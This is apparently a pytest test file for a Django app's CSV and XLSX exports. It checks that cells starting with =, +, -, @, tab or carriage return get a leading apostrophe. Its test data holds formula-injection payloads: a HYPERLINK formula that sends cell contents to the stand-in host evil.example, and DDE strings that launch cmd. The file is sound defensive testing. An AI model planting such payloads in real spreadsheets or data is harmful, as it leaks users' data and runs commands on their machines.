"""Formula injection (issue 17 §10): every CSV and XLSX the product writes for people neutralises a
text cell that a spreadsheet would run — first character =, +, -, @, tab or carriage return — with
a leading apostrophe (OWASP "CSV injection"); plain numbers written as text stay as they are."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from alternance.exports import export_response, spreadsheet_safe, xlsx_bytes
from alternance.qualiopi.extracts import csv_bytes
from tests.factories.companies import CompanyFactory
from tests.factories.web import make_world

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


@pytest.mark.parametrize(("value", "expected"), [
    (PAYLOAD, "'" + PAYLOAD),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-12,50", "-12,50"),  # a negative amount written as text
    ("+33 6 12 34 56 78", "+33 6 12 34 56 78"),  # a phone number
    ("Boulangerie = pain", "Boulangerie = pain"),  # a trigger inside the text is harmless
    ("", ""),
    (-3, -3),
    (Decimal("-12.50"), Decimal("-12.50")),
    (date(2026, 12, 1), date(2026, 12, 1)),
    (None, None),
])
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


def test_list_export_neutralises_csv_and_xlsx_cells():
    rows = [[PAYLOAD, date(2026, 12, 1), Decimal("1234.50"), 3]]

    csv_rows = list(csv.reader(io.StringIO(export_response("csv", name="x", header=["A", "B", "C", "D"], rows=rows).getvalue().decode("utf-8-sig")),
                               delimiter=";"))
    sheet = load_workbook(io.BytesIO(export_response("xlsx", name="x", header=["A", "B", "C", "D"], rows=rows).getvalue())).active

    assert csv_rows == [["A", "B", "C", "D"], ["'" + PAYLOAD, "01/12/2026", "1234.50", "3"]]
    first = list(sheet[2])
    assert (first[0].value, first[0].data_type) == ("'" + PAYLOAD, "s")  # text, not a formula
    assert (first[2].value, first[3].value) == (1234.5, 3)
    assert (first[1].value.date(), first[1].number_format) == (date(2026, 12, 1), "DD/MM/YYYY")
    assert first[2].number_format == "#,##0.00"
    assert [c.font.b for c in sheet[1]] == [True, True, True, True]


def test_xlsx_bytes_reads_back_many_rows_in_order():
    content = xlsx_bytes(title="Liste", header=["n", "texte"], rows=([n, f"-{n} @"] for n in range(1, 1001)))
    sheet = load_workbook(io.BytesIO(content), read_only=True).active

    values = [tuple(row) for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(values) == 1000
    assert values[0] == (1, "'-1 @") and values[-1] == (1000, "'-1000 @")


def test_qualiopi_csv_extract_neutralises_cells():
    rows = list(csv.reader(io.StringIO(csv_bytes(["Motif"], [[PAYLOAD]]).decode("utf-8-sig")), delimiter=";"))

    assert rows == [["Motif"], ["'" + PAYLOAD]]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_companies_export_of_a_company_named_like_a_formula(client, fmt):
    world = make_world()
    CompanyFactory(name=PAYLOAD)
    client.force_login(world.coordinator)

    response = client.get(reverse("companies:company_list") + f"?export={fmt}&q=HYPERLINK")

    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig")), delimiter=";"))
        names = [row[0] for row in rows[1:]]
    else:
        names = [row[0] for row in load_workbook(io.BytesIO(response.getvalue())).active.iter_rows(min_row=2, values_only=True)]
    assert names == ["'" + PAYLOAD]
